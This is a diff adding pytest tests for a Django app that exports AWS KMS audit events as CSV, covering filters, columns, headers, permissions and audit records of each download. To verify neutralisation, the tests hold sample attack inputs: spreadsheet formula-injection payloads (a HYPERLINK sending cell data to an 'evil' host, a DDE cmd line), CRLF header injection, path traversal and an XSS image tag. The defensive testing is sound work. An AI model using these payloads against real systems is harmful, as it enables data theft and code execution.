@@ -1,0 +1,367 @@
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import re
+from datetime import UTC, datetime, timedelta
+
+import pytest
+import time_machine
+from django.contrib.auth import get_user_model
+from django.contrib.auth.models import Group, Permission
+from django.core.management import call_command
+from django.core.management.base import CommandError
+from django.http import QueryDict
+
+from audits.exports import HEADER, stream_export
+from audits.filters import EventFilter
+from audits.ingest import finish_run, ingest_records, start_run
+from audits.models import Event
+from audits.synthetic import generate_records, identity_role, identity_user, kms_record
+from kmsdash.csvexport import start_export_audit
+from kmsdash.models import ExportAudit
+
+pytestmark = pytest.mark.django_db
+
+ACCOUNT = "111122223333"
+KEY = f"arn:aws:kms:us-east-1:{ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab"
+OTHER_KEY = f"arn:aws:kms:us-east-1:{ACCOUNT}:key/0987dcba-09fe-87dc-65ba-ab0987654321"
+T0 = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)
+URL = "/events/export.csv"
+
+
+def ingest(records) -> None:
+    run = start_run("files")
+    counts = ingest_records(list(records), run=run)
+    finish_run(run, counts)
+
+
+def record(**overrides) -> dict:
+    fields = {
+        "event_name": "Decrypt",
+        "event_time": T0,
+        "key_arn": KEY,
+        "identity": identity_role(ACCOUNT, "app", "app-1"),
+        "region": "us-east-1",
+        "recipient_account_id": ACCOUNT,
+    }
+    fields.update(overrides)
+    return kms_record(**fields)
+
+
+def make_user(username: str, *roles: str, permission: str | None = None):
+    user = get_user_model().objects.create_user(username, password="x")
+    user.groups.add(*(Group.objects.get_or_create(name=role)[0] for role in roles))
+    if permission:
+        app_label, codename = permission.split(".")
+        user.user_permissions.add(Permission.objects.get(content_type__app_label=app_label, codename=codename))
+    return user
+
+
+@pytest.fixture
+def admin_client(client):
+    client.force_login(make_user("root-admin", "admin"))
+    return client
+
+
+def download(client, query: str = "") -> tuple[object, bytes]:
+    response = client.get(f"{URL}?{query}" if query else URL)
+    assert response.status_code == 200, response.content[:500]
+    body = b"".join(response.streaming_content)
+    return response, body
+
+
+def parse(body: bytes) -> list[dict[str, str]]:
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
+    assert tuple(rows[0]) == HEADER
+    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]
+
+
+# --- what is exported ------------------------------------------------------------------------
+
+
+def test_the_export_holds_exactly_the_events_the_filter_selects_oldest_first(admin_client):
+    ingest(
+        [
+            record(event_time=T0 + timedelta(minutes=3), event_id="e-3"),
+            record(event_time=T0 + timedelta(minutes=1), event_id="e-1", error_code="AccessDenied"),
+            record(event_time=T0 + timedelta(minutes=2), event_id="e-2", key_arn=OTHER_KEY),
+            record(event_time=T0 - timedelta(days=3), event_id="e-old"),
+        ]
+    )
+    _, body = download(admin_client, f"key={KEY}&since=2026-11-01")
+    assert [row["event_id"] for row in parse(body)] == ["e-1", "e-3"]
+    _, body = download(admin_client, "error=any")
+    assert [row["event_id"] for row in parse(body)] == ["e-1"]
+    _, body = download(admin_client)
+    assert [row["event_id"] for row in parse(body)] == ["e-old", "e-1", "e-2", "e-3"]
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "",
+        "operation=Decrypt",
+        "error=any",
+        "error=none&after_hours=1",
+        "account=444455556666&region=eu-west-1",
+        "since=2026-10-05&until=2026-10-09",
+        "since=2026-10-05T06:30:00Z&until=2026-10-05T18:00:00Z",
+        "service=s3.amazonaws.com",
+        "q=boto3",
+    ],
+)
+def test_the_export_matches_the_explorer_filter_on_a_generated_month(admin_client, query):
+    ingest(generate_records(600, seed=7, start=datetime(2026, 10, 1, tzinfo=UTC), days=20))
+    expected = list(
+        EventFilter.from_querydict(QueryDict(query)).events().order_by("event_time", "id").values_list("event_id", flat=True)
+    )
+    _, body = download(admin_client, query)
+    assert [row["event_id"] for row in parse(body)] == expected
+    if query:
+        assert len(expected) < Event.objects.count()  # the filter really filtered
+
+
+def test_every_column_is_exported(admin_client):
+    ingest(
+        [
+            record(
+                event_id="e-full",
+                event_name="GenerateDataKey",
+                identity=identity_role(ACCOUNT, "batch", "nightly", invoked_by="s3.amazonaws.com"),
+                source_ip="198.51.100.7",
+                error_code="AccessDenied",
+                error_message="User is not authorized",
+                encryption_context={"aws:s3:arn": "arn:aws:s3:::my-bucket/a.txt", "b": "é"},
+                shared_event_id="8f0c1f8e-0000-4000-8000-000000000001",
+                vpc_endpoint_id="vpce-1234",
+            )
+        ]
+    )
+    event = Event.objects.get(event_id="e-full")
+    (row,) = parse(download(admin_client)[1])
+    assert row == {
+        "event_time": "2026-11-02T10:00:00Z",
+        "event_id": "e-full",
+        "recipient_account_id": ACCOUNT,
+        "region": "us-east-1",
+        "event_name": "GenerateDataKey",
+        "key": KEY,
+        "principal": event.principal,
+        "principal_type": "AssumedRole",
+        "session_name": "nightly",
+        "service": "s3.amazonaws.com",
+        "source_ip": event.source_ip,
+        "user_agent": event.user_agent,
+        "error_code": "AccessDenied",
+        "error_message": "User is not authorized",
+        "after_hours": "false",
+        "read_only": "true",
+        "encryption_context": '{"aws:s3:arn": "arn:aws:s3:::my-bucket/a.txt", "b": "é"}',
+        "request_id": event.request_id,
+        "shared_event_id": "8f0c1f8e-0000-4000-8000-000000000001",
+        "vpc_endpoint_id": "vpce-1234",
+        "s3_bucket": "my-bucket",
+    }
+    assert event.principal and event.request_id
+
+
+# --- hostile cells ---------------------------------------------------------------------------
+
+
+def test_formula_like_cells_are_neutralised_and_everything_else_is_kept_verbatim(admin_client):
+    ingest(
+        [
+            record(
+                event_id="e-hostile",
+                identity=identity_role(ACCOUNT, "app", "=1+1"),
+                user_agent='=HYPERLINK("http://evil/?d="&A1,"click")',
+                error_code="AccessDenied",
+                error_message='@SUM(1+9)*cmd|\' /C calc\'!A0\r\nsecond line, with "quotes"',
+                encryption_context={"=cmd": "-2+3"},
+            ),
+            record(event_id="e-rtl", identity=identity_user(ACCOUNT, "eve\u202egnp.exe"), user_agent=' \t+cmd'),
+        ]
+    )
+    _, body = download(admin_client)
+    hostile, rtl = parse(body)
+    assert hostile["session_name"] == "'=1+1"
+    assert hostile["user_agent"] == '\'=HYPERLINK("http://evil/?d="&A1,"click")'
+    assert hostile["error_message"] == '\'@SUM(1+9)*cmd|\' /C calc\'!A0\r\nsecond line, with "quotes"'
+    # JSON starts with "{", which no spreadsheet reads as a formula.
+    assert hostile["encryption_context"] == '{"=cmd": "-2+3"}'
+    assert rtl["principal"].endswith("eve\u202egnp.exe")
+    assert rtl["user_agent"] == "' \t+cmd"
+    assert b'"\'=HYPERLINK(""http://evil/?d=""&A1,""click"")"' in body
+    for row in (hostile, rtl):
+        for value in row.values():
+            assert value[:1] not in set("=+-@\t\r\n\0")
+
+
+def test_the_file_is_utf8_with_crlf_line_ends(admin_client):
+    ingest([record(event_id="e-1", user_agent="agent/ü")])
+    _, body = download(admin_client)
+    text = body.decode("utf-8")
+    assert "agent/ü" in text
+    assert text.endswith("\r\n") and text.count("\r\n") == 2 and "\n" not in text.replace("\r\n", "")
+
+
+# --- response and audit ----------------------------------------------------------------------
+
+
+def test_the_response_is_an_uncacheable_attachment_with_a_server_made_name(admin_client):
+    ingest([record(event_id="e-1")])
+    with time_machine.travel(datetime(2026, 11, 3, 8, 9, 10, tzinfo=UTC), tick=False):
+        response, _ = download(admin_client, "principal=%22%0D%0ASet-Cookie:%20x=y&key=..%2F..%2Fetc")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == 'attachment; filename="kms-events-20261103T080910Z.csv"'
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert "no-store" in response["Cache-Control"]
+    assert "x" not in response.cookies
+    assert response.streaming
+
+
+def test_every_download_is_audited_with_the_filter_row_count_and_hash(admin_client):
+    ingest([record(event_id=f"e-{i}", event_time=T0 + timedelta(seconds=i)) for i in range(5)])
+    before = datetime.now(UTC)
+    response = admin_client.get(f"{URL}?operation=Decrypt&after_hours=0")
+    after = datetime.now(UTC)
+    audit = ExportAudit.objects.get()
+    # Written before the first byte is sent.
+    assert audit.status == ExportAudit.Status.STARTED
+    body = b"".join(response.streaming_content)
+    audit.refresh_from_db()
+    assert audit.status == ExportAudit.Status.COMPLETED
+    assert audit.username == "root-admin" and audit.user.username == "root-admin"
+    assert audit.kind == "events" and audit.via == "web"
+    assert audit.rows == 5 == len(parse(body))
+    assert audit.sha256 == hashlib.sha256(body).hexdigest()
+    assert {k: v for k, v in audit.filters.items() if k != "as_of"} == {"operation": "Decrypt", "after_hours": "0"}
+    assert before <= datetime.fromisoformat(audit.filters["as_of"]) <= after
+
+
+def test_a_download_cut_short_is_recorded_as_aborted_with_what_was_sent(admin_client):
+    ingest(generate_records(1300, seed=3, start=datetime(2026, 10, 1, tzinfo=UTC), days=5))
+    as_of = datetime.now(UTC)
+    audit = start_export_audit(user=None, kind="events", filters={})
+    stream = stream_export(EventFilter(), as_of, audit)
+    first = next(stream)
+    stream.close()  # what the WSGI server does when the client goes away
+    audit.refresh_from_db()
+    assert audit.status == ExportAudit.Status.ABORTED
+    assert audit.rows == first.count(b"\r\n") - 1 < 1300
+    assert audit.sha256 == hashlib.sha256(first).hexdigest()
+
+
+def test_events_written_while_the_export_streams_do_not_change_it(admin_client):
+    # More than one database fetch (2000 rows), so the query is still open when the late event lands.
+    ingest(generate_records(2600, seed=5, start=T0 - timedelta(days=2), days=1))
+    with time_machine.travel(T0, tick=False) as clock:
+        response = admin_client.get(URL)
+        chunks = iter(response.streaming_content)
+        body = next(chunks)
+        clock.shift(timedelta(minutes=10))
+        ingest([record(event_id="e-late", event_time=T0 + timedelta(minutes=5))])
+        body += b"".join(chunks)
+    rows = parse(body)
+    assert "e-late" not in {row["event_id"] for row in rows}
+    assert len(rows) == 2600 == ExportAudit.objects.get().rows
+
+
+def test_an_invalid_filter_is_refused_rather_than_exporting_everything(admin_client):
+    ingest([record(event_id="e-1")])
+    response = admin_client.get(f"{URL}?since=yesterday")
+    assert response.status_code == 400
+    assert b"since must be an ISO date" in response.content
+    assert not ExportAudit.objects.exists()
+
+
+def test_post_is_not_allowed(admin_client):
+    assert admin_client.post(URL).status_code == 405
+
+
+# --- who may export --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("roles", "permission", "status"),
+    [
+        (("admin",), None, 200),
+        ((), "kmsdash.export_audit_csv", 200),
+        (("analyst",), "kmsdash.export_audit_csv", 200),
+        (("analyst",), None, 403),
+        (("finance",), None, 403),
+        (("analyst", "finance"), None, 403),
+        ((), None, 403),
+    ],
+)
+def test_only_admins_and_holders_of_the_export_permission_may_export(client, roles, permission, status):
+    client.force_login(make_user("someone", *roles, permission=permission))
+    assert client.get(URL).status_code == status
+    assert ExportAudit.objects.count() == (1 if status == 200 else 0)
+
+
+def test_anonymous_users_are_sent_to_the_login_page(client):
+    response = client.get(URL)
+    assert response.status_code == 302
+    assert response["Location"].startswith("/accounts/login/?next=")
+    assert not ExportAudit.objects.exists()
+
+
+# --- the command line ------------------------------------------------------------------------
+
+
+def test_the_command_writes_the_same_bytes_as_the_web_export_and_is_audited(admin_client, tmp_path):
+    ingest(generate_records(300, seed=11, start=datetime(2026, 10, 1, tzinfo=UTC), days=10))
+    key = Event.objects.order_by("id").values_list("key", flat=True).first()
+    _, web = download(admin_client, f"key={key}&error=any&since=2026-10-02&until=2026-10-08")
+    output = tmp_path / "out.csv"
+    call_command(
+        "export_audit_csv", "--key", key, "--failed", "--since", "2026-10-02", "--until", "2026-10-08",
+        "--output", str(output), stderr=io.StringIO(),
+    )
+    assert output.read_bytes() == web
+    cli = ExportAudit.objects.get(via="cli")
+    assert cli.user is None and cli.status == ExportAudit.Status.COMPLETED
+    assert cli.sha256 == hashlib.sha256(web).hexdigest()
+    assert {k: v for k, v in cli.filters.items() if k != "as_of"} == {
+        "key": key, "error": "any", "since": "2026-10-02", "until": "2026-10-08"
+    }
+
+
+def test_the_command_maps_after_hours_operation_and_principal(admin_client, tmp_path):
+    ingest(generate_records(300, seed=13, start=datetime(2026, 10, 1, tzinfo=UTC), days=10))
+    principal = Event.objects.exclude(principal="").values_list("principal", flat=True).first()
+    output = tmp_path / "out.csv"
+    call_command(
+        "export_audit_csv", "--after-hours", "--operation", "Decrypt", "--principal", principal,
+        "--output", str(output), stderr=io.StringIO(),
+    )
+    expected = Event.objects.filter(after_hours=True, event_name="Decrypt", principal=principal)
+    assert expected.exists()
+    assert {row["event_id"] for row in parse(output.read_bytes())} == set(expected.values_list("event_id", flat=True))
+
+
+def test_the_command_refuses_an_invalid_filter_without_an_audit_row(tmp_path):
+    with pytest.raises(CommandError, match="since"):
+        call_command("export_audit_csv", "--since", "last week", "--output", str(tmp_path / "x.csv"))
+    assert not ExportAudit.objects.exists()
+
+
+def test_the_filename_pattern_allows_only_safe_characters():
+    from audits.exports import export_filename
+
+    assert re.fullmatch(r"[A-Za-z0-9_.-]+", export_filename(datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)))
+
+
+def test_the_exports_page_lists_every_export_with_its_filter_escaped(admin_client, tmp_path):
+    ingest([record(event_id="e-1")])
+    download(admin_client, "principal=<img src=x onerror=alert(1)>")
+    call_command("export_audit_csv", "--output", str(tmp_path / "all.csv"), stderr=io.StringIO())
+    html = admin_client.get("/exports/").content.decode()
+    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "<img src=x" not in html
+    assert html.count("<tr>") == 3  # header and two exports
+    web, cli = ExportAudit.objects.order_by("created_at")
+    assert web.sha256 in html and cli.sha256 in html
+    assert ">cli<" in html and ">web<" in html
